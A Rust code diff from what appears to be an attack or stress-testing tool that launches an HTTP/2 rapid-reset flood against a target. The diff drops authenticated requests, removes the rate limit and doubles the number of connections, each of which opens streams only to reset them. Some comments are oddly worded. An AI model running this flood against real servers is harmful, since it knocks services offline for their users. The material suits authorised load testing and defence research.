@@ -6,7 +6,7 @@ use std::time::Duration;
 use tokio::io::AsyncWriteExt;
 use tokio::task::JoinSet;
 
-use super::streams::{Asked, rapid_resets};
+use super::streams::rapid_resets;
 use crate::client::{address, connect, head};
 use crate::target::Target;
 use crate::{Future, Strike};
@@ -16,9 +16,8 @@ const RESETS: u32 = 2_000;
 const AT_ONCE: u32 = 8;
 /// How long a request goes on before.
 const PAUSE: Duration = Duration::from_millis(10);
-/// Streams a second of a connection, and connections.
-const STREAMS_A_SECOND: u32 = 500;
-const CONNECTIONS: u16 = 2;
+/// Connections of which each opens streams only to reset them.
+const CONNECTIONS: u16 = 4;
 
 /// Resets by one account.
 pub fn prepare(target: Arc<Target>) -> Future<Result<Strike, String>> {
@@ -44,11 +43,7 @@ pub fn prepare(target: Arc<Target>) -> Future<Result<Strike, String>> {
                 });
             }
             for number in 0..CONNECTIONS {
-                let (to, key) = (target.address, key.clone());
-                tasks.spawn(async move {
-                    let asked = Asked { path: "/user/tools", token: &key, bytes: 1_000 };
-                    rapid_resets(to, address(5_000 + number), asked, STREAMS_A_SECOND).await;
-                });
+                tasks.spawn(rapid_resets(target.address, address(5_000 + number)));
             }
             while tasks.join_next().await.is_some() {}
         }) as Strike)
